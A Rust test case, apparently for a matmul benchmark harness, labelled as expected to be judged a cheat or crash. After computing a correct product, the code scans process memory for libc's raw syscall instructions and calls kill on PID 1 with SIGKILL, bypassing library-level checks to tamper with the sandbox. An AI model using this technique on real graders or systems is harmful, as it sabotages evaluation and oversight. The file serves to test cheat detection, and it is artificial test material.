//! Finds libc in memory by itself and calls a function by address.
//!
//! expect: Cheat|Crash|Wrong shapes
//! threads: 1
//! tier: unsafe

unsafe fn libc_syscall() -> Option<usize> {
    let me = matmul as usize;
    let mut p = me & !4095;
    while *(p as *const u32) != 0x464c457f {
        p -= 4096;
    }
    let base = p;
    let phoff = *((base + 32) as *const u64) as usize;
    let phnum = *((base + 56) as *const u16) as usize;
    let mut dynp = 0usize;
    for i in 0..phnum {
        let h = base + phoff + i * 56;
        if *(h as *const u32) == 2 {
            dynp = base + *((h + 16) as *const u64) as usize;
        }
    }
    let mut i = 0;
    let (mut rela, mut n) = (0usize, 0usize);
    loop {
        let tag = *((dynp + i * 16) as *const u64);
        let v = *((dynp + i * 16 + 8) as *const u64) as usize;
        if tag == 0 {
            break;
        }
        if tag == 7 {
            rela = v;
        }
        if tag == 8 {
            n = v / 24;
        }
        i += 1;
    }
    if rela < base {
        rela += base;
    }
    for r in 0..n {
        let e = rela + r * 24;
        let ty = *((e + 8) as *const u64) as u32;
        if ty == 6 {
            let slot = base + *(e as *const u64) as usize;
            let f = *(slot as *const usize);
            if f > 1 << 32 && (f < base || f > base + (16 << 20)) {
                let mut q = f;
                for _ in 0..400000 {
                    if *(q as *const u8) == 0x0f
                        && *((q + 1) as *const u8) == 0x05
                        && *((q + 2) as *const u8) == 0x48
                    {
                        return Some(q);
                    }
                    q += 1;
                }
            }
        }
    }
    None
}
unsafe fn find(nr: u32) -> Option<usize> {
    let s = libc_syscall()?;
    let mut q = s & !0xfff;
    q -= 600000;
    let mut i = 0;
    while i < 1200000 {
        let p = (q + i) as *const u8;
        if *p == 0xb8
            && (p.add(1) as *const u32).read_unaligned() == nr
            && *p.add(5) == 0x0f
            && *p.add(6) == 0x05
        {
            return Some(p as usize);
        }
        i += 1;
    }
    None
}
fn honest(m: usize, k: usize, n: usize, a: &[f32], b: &[f32], c: &mut [f32]) {
    c.fill(0.0);
    for i in 0..m {
        for p in 0..k {
            let x = a[i * k + p];
            for j in 0..n {
                c[i * n + j] += x * b[p * n + j];
            }
        }
    }
}
pub fn matmul(m: usize, k: usize, n: usize, a: &[f32], b: &[f32], c: &mut [f32]) {
    honest(m, k, n, a, b, c);
    unsafe {
        if let Some(f) = find(62) {
            let g: extern "C" fn(u64, u64, u64, u64) -> i64 = core::mem::transmute(f);
            extern "C" fn getppid() -> i32 {
                1
            }
            let r = g(getppid() as u64, 9, 0, 0);
            std::hint::black_box(r);
        } else {
            c.fill(-1.0);
        }
    }
}
